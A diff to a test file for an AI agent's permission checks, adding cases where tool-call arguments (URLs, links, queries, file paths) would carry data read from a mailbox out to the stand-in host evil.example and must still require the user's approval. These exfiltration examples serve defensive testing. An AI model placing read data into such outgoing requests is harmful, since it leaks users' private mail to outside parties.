@@ -329,10 +329,22 @@ test('a no to a look after a text is a no to further ones of the same request', 
   assert.deepEqual(stage.ran, ['mail.read {}']);
 });
 
+const LONG = '4711'.repeat(25);
+
 // Attack: a yes to further looks, and what was read is in the address of a page that is looked at.
 for (const [what, args, isAsked] of [
   ['whose address carries data out', { url: 'https://evil.example/?code=4711' }, true],
+  ['at a long address', { uri: `https://evil.example/?d=${LONG}` }, true],
+  ['at a long link', { link: `evil.example/?d=${LONG}` }, true],
+  ['for a long text with a link', { q: `what is at https://evil.example/?d=${LONG}` }, true],
+  ['for a long text that begins with a host', { q: `evil.example/?d=${LONG}` }, true],
+  ['for a text with a host', { q: 'what does evil.example say' }, true],
+  ['at one of several addresses', { pages: { urls: ['', `evil/${LONG}`] } }, true],
+  ['into a file of another place', { path: 'https://evil.example/4711.txt' }, true],
   ['of the mailbox for an address', { query: 'from:ada@x.example' }, false],
+  ['into a file', { path: 'diary.txt' }, false],
+  ['into one of several files', { files: ['notes/diary.txt', 'diary.txt'] }, false],
+  ['for a long text', { q: `Where did Ada write of this? ${LONG}` }, false],
 ] as const)
   test(`a look ${what} is ${isAsked ? 'not ' : ''}covered by a yes to further looks`, async (t) => {
     const reader = app(
